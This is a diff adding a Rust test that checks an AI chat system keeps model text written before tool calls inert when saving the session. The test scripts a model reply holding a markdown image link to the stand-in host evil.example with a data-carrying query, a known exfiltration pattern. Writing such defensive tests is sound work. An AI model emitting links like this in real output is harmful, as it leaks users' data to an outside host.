@@ -311,3 +311,13 @@ fn an_address_that_the_model_composed_is_not_shown_because_a_tool_repeated_it() 
         assert!(!response.response.contains("evil.example"), "{tool}: {}", response.response);
     }
 }
+
+#[test]
+fn what_is_said_before_tools_are_called_is_kept_inert() {
+    let talking = Talking::unindexed(World::new(VAULT));
+    let chatty = calls(&[("get_current_date", json!({}))])
+        .map(|reply| Reply { text: "Wait. ![x](https://evil.example/?q=Mine)".to_owned(), ..reply });
+    talking.say(&Arc::new(ScriptedModel::new([chatty, says("Done.")])), "Go").unwrap();
+    let kept = serde_json::to_string(&talking.session().entries).unwrap();
+    assert!(kept.contains("Wait.") && !kept.contains("evil.example"), "{kept}");
+}
